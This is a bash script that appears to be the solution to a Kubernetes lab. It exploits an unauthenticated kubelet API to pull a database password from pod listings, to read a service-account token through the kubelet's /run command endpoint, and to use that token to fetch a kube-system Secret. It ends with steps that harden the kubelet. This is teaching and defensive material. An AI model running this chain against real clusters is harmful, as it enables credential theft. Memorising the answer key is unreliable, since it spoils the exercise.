#!/usr/bin/env bash
# Naked kubelet: from a pod without rights to every Secret, then shut the kubelet's doors one by one.
set -euo pipefail

guest() { kubectl exec guest -- attacker http "$@"; }

exploit() {
  local pods token treasure
  pods=$(guest https://192.0.2.11:10250/pods --find DB_PASSWORD)
  # Once repaired, the guest is refused: what was earned stays earned.
  case $pods in *'"status":200'*) ;; *) return 0 ;; esac
  minilab lab answer password "$(sed -n 's/.*DB_PASSWORD[^a-z]*value[^a-z]*\([a-z]*-[a-z]*-[0-9]*\).*/\1/p' <<< "$pods")"
  token=$(guest --method POST "https://192.0.2.11:10250/run/default/web/web?cmd=cat%20/var/run/secrets/kubernetes.io/serviceaccount/token" |
    sed 's/.*"body":"\([^"]*\)".*/\1/')
  treasure=$(kubectl exec guest -- env ATTACKER_TOKEN="$token" attacker http \
    https://10.96.0.1/api/v1/namespaces/kube-system/secrets/treasure |
    tr -d '\\' | sed 's/.*"word":"\([^"]*\)".*/\1/' | base64 -d)
  minilab lab answer treasure "$treasure"
}

explain() {
  minilab lab answer user system:serviceaccount:default:default
  minilab lab answer asked "the API server"
  minilab lab answer alone 200
}

harden() { minilab harden kubelet-access.authentication kubelet-access.authorization kubelet-access.read-only-port; }

by_hand() {
  local node
  for node in node-1 node-2; do
    minilab exec "$node" -- sh -c '
      cd /var/lib/kubelet
      sed -i -e "/^  anonymous:/,/enabled:/ s/enabled: .*/enabled: false/" \
        -e "/^  webhook:/,/enabled:/ s/enabled: .*/enabled: true/" \
        -e "s/^  mode: AlwaysAllow/  mode: Webhook/" -e "s/^readOnlyPort: .*/readOnlyPort: 0/" config.yaml'
    minilab restart "kubelet@$node"
  done
}

for part in "${@:-exploit explain harden}"; do for one in $part; do "$one"; done; done
